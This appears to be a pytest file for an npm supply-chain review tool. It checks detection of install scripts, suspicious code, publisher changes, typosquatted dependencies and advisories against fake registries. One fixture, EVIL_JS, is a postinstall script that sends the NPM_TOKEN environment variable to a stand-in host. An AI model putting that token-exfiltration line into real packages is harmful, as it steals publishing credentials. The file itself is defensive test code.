"""The review engine over a MetadataProvider double: what is fetched, what is reported."""

from __future__ import annotations

from pathlib import Path

from signal_fakes import NOW, FakeProvider, FakeTarball, manifest, packument

from reviewer.app.review import review_all
from reviewer.audit.model import Advisory
from reviewer.graph.model import Graph, LockfileInfo, Package, Source
from reviewer.signals.engine import review_package, review_upgrade
from reviewer.signals.finding import Severity
from reviewer.signals.settings import ReviewSettings

SETTINGS = ReviewSettings(now=NOW, registry_for=lambda name: "https://registry.npmjs.org/")
EVIL_JS = "const http = require('http')\nhttp.get('http://x.example/?t=' + process.env.NPM_TOKEN)\n"


def graph_of(*packages: Package) -> Graph:
    graph = Graph(LockfileInfo(Path("package-lock.json"), "npm", "3"))
    for package in packages:
        graph.add_package(package)
    return graph


def provider() -> FakeProvider:
    pkg_versions = [
        manifest("pkg", "1.0.0", maintainers=["alice"], publisher="alice"),
        manifest("pkg", "1.1.0", maintainers=["alice", "mallory"], publisher="mallory",
                 scripts={"postinstall": "node setup.js"}, dependencies={"crossenv": "^1.0.0"}),
    ]
    return FakeProvider(
        packuments={
            "pkg": packument("pkg", pkg_versions, ages_days=[60, 3]),
            "calm": packument("calm", [manifest("calm", "2.0.0"), manifest("calm", "2.0.1")]),
            "crossenv": packument("crossenv", [manifest("crossenv", "1.0.0", scripts={"preinstall": "node x.js"})]),
        },
        tarballs={"pkg@1.1.0": FakeTarball({"package.json": '{"scripts": {"postinstall": "node setup.js"}}',
                                            "setup.js": EVIL_JS})},
    )


async def test_review_package_reports_everything_for_a_takeover() -> None:
    prov = provider()
    pkg = Package("pkg", "1.1.0", integrity="sha512-x", resolved="https://registry.npmjs.org/pkg/-/pkg-1.1.0.tgz")
    findings = await review_package(pkg, graph_of(pkg), prov, SETTINGS)
    by_id = {f.id: f for f in findings}
    assert {"install-script", "suspicious-code", "new-publisher", "maintainers-changed", "recent-release"} <= set(by_id)
    assert by_id["suspicious-code"].severity is Severity.CRITICAL
    assert {(e.file, e.line) for e in by_id["suspicious-code"].evidence} >= {("setup.js", 1), ("setup.js", 2)}
    assert prov.tarball_requests == ["pkg@1.1.0"]
    # no advisory source at all: said, not skipped
    assert by_id["advisory"].unknown and "unavailable" in by_id["advisory"].summary


async def test_no_tarball_without_install_script() -> None:
    prov = provider()
    calm = Package("calm", "2.0.1", integrity="sha512-x")
    findings = await review_package(calm, graph_of(calm), prov, SETTINGS)
    assert prov.tarball_requests == []
    assert [f.id for f in findings if not f.unknown] == []


async def test_registry_error_becomes_unknown_findings() -> None:
    prov = provider()
    prov.fail.add("calm")
    calm = Package("calm", "2.0.1", integrity="sha512-x")
    findings = await review_package(calm, graph_of(calm), prov, SETTINGS)
    unknown_ids = {f.id for f in findings if f.unknown}
    assert {"install-script", "maintainers-changed", "new-publisher", "trust-downgrade",
            "recent-release", "deprecated"} <= unknown_ids
    assert all("503" in f.summary for f in findings if f.id != "advisory")


async def test_tarball_failure_is_unknown_suspicious_code() -> None:
    prov = provider()
    prov.tarballs.clear()
    pkg = Package("pkg", "1.1.0", integrity="sha512-x")
    findings = await review_package(pkg, graph_of(pkg), prov, SETTINGS)
    code = [f for f in findings if f.id == "suspicious-code"]
    assert code and code[0].unknown and "tarball unavailable" in code[0].summary


async def test_advisories_imported_and_from_registry() -> None:
    prov = provider()
    prov.bulk = {"calm": [{"id": 1, "url": "https://github.com/advisories/GHSA-aaaa-bbbb-cccc",
                           "title": "Prototype pollution", "severity": "critical",
                           "vulnerable_versions": "<2.0.2"}]}
    calm = Package("calm", "2.0.1", integrity="sha512-x")
    imported = (Advisory("GHSA-1111-2222-3333", "calm", ">=2.0.0 <2.0.1", Severity.LOW, "old bug"),)
    settings = ReviewSettings(now=NOW, advisories=imported)
    reviews = await review_all(graph_of(calm), prov, settings)
    advisories = [f for f in reviews[0].findings if f.id == "advisory"]
    assert [a.details["advisory"] for a in advisories] == ["GHSA-aaaa-bbbb-cccc"]
    assert advisories[0].severity is Severity.CRITICAL
    assert prov.bulk_requests == [{"calm": ["2.0.1"]}]


async def test_bulk_unavailable_is_unknown() -> None:
    prov = provider()  # bulk None = 404/405
    calm = Package("calm", "2.0.1", integrity="sha512-x")
    reviews = await review_all(graph_of(calm), prov, SETTINGS)
    advisory = [f for f in reviews[0].findings if f.id == "advisory"]
    assert advisory[0].unknown and advisory[0].summary == "unknown: advisories unavailable from this registry"


async def test_review_upgrade_new_script_new_dependency() -> None:
    prov = provider()
    old = Package("pkg", "1.0.0", integrity="sha512-a")
    new = Package("pkg", "1.1.0", integrity="sha512-b")
    findings = await review_upgrade(old, new, graph_of(new), prov, SETTINGS)
    by_id = {f.id: f for f in findings}
    assert by_id["install-script"].severity is Severity.HIGH
    assert by_id["maintainers-changed"].details["added"] == ["mallory"]
    dep = by_id["new-dependency"]
    assert dep.details["dependency"] == "crossenv"
    assert {s["id"] for s in dep.details["signals"]} == {"typosquat", "install-script"}  # type: ignore[union-attr]
    assert dep.severity is Severity.HIGH


async def test_review_all_progress_and_workspace() -> None:
    prov = provider()
    calm = Package("calm", "2.0.1", integrity="sha512-x")
    ws = Package("my-ws", "0.0.0", source=Source.WORKSPACE)
    seen: list[tuple[int, int]] = []
    reviews = await review_all(graph_of(calm, ws), prov, SETTINGS, concurrency=2,
                               progress=lambda d, t: seen.append((d, t)))
    assert [r.package.name for r in reviews] == ["calm", "my-ws"]
    assert seen[-1] == (2, 2)
    assert reviews[1].findings == []


async def test_file_dependency_prepare_read_locally(tmp_path: Path) -> None:
    (tmp_path / "local").mkdir()
    (tmp_path / "local" / "package.json").write_text('{"scripts": {"prepare": "node build.js"}}')
    pkg = Package("local", "1.0.0", resolved="file:local", source=Source.FILE)
    findings = await review_package(pkg, graph_of(pkg), FakeProvider(),
                                    ReviewSettings(now=NOW, project_dir=tmp_path))
    scripts = [f for f in findings if f.id == "install-script"]
    assert scripts and scripts[0].details["scripts"] == {"prepare": "node build.js"}
    git = Package("g", "1.0.0", resolved="git+https://x/g.git#abc", source=Source.GIT)
    found = await review_package(git, graph_of(git), FakeProvider(), SETTINGS)
    assert any(f.id == "install-script" and f.unknown for f in found)


async def test_scan_cache_avoids_refetching_tarballs(tmp_path: Path) -> None:
    from dataclasses import replace

    settings = replace(SETTINGS, scan_cache_dir=tmp_path)
    pkg = Package("pkg", "1.1.0", integrity="sha512-x")
    first_provider = provider()
    first = await review_package(pkg, graph_of(pkg), first_provider, settings)
    second_provider = provider()
    second = await review_package(pkg, graph_of(pkg), second_provider, settings)
    assert first_provider.tarball_requests == ["pkg@1.1.0"] and second_provider.tarball_requests == []
    code = [f for f in second if f.id == "suspicious-code"]
    assert code == [f for f in first if f.id == "suspicious-code"]
    # another integrity is another tarball: not served from the cache
    other = Package("pkg", "1.1.0", integrity="sha512-y")
    third_provider = provider()
    await review_package(other, graph_of(other), third_provider, settings)
    assert third_provider.tarball_requests == ["pkg@1.1.0"]


async def test_no_advisory_endpoint_is_remembered(tmp_path: Path) -> None:
    from dataclasses import replace

    marker = tmp_path / "no-advisories"
    settings = replace(SETTINGS, no_advisories_marker=marker)
    calm = Package("calm", "2.0.1", integrity="sha512-x")
    first = provider()  # bulk None: the registry answered 404/405
    await review_all(graph_of(calm), first, settings)
    assert len(first.bulk_requests) == 1 and marker.exists()
    second = provider()
    reviews = await review_all(graph_of(calm), second, settings)
    assert second.bulk_requests == []
    assert any(f.id == "advisory" and f.unknown for f in reviews[0].findings)


async def test_implicit_gyp_found_in_the_tarball() -> None:
    prov = FakeProvider(
        packuments={"native": packument("native", [manifest("native", "1.0.0")])},
        tarballs={"native@1.0.0": FakeTarball({"package.json": '{"name": "native"}',
                                               "binding.gyp": "{'targets': []}\n"})},
    )
    pkg = Package("native", "1.0.0", integrity="sha512-x", has_install_script=True)
    findings = await review_package(pkg, graph_of(pkg), prov, SETTINGS)
    script = next(f for f in findings if f.id == "install-script")
    assert script.details["scripts"] == {"install": "node-gyp rebuild"}
    assert script.details["implicit_gyp"] is True
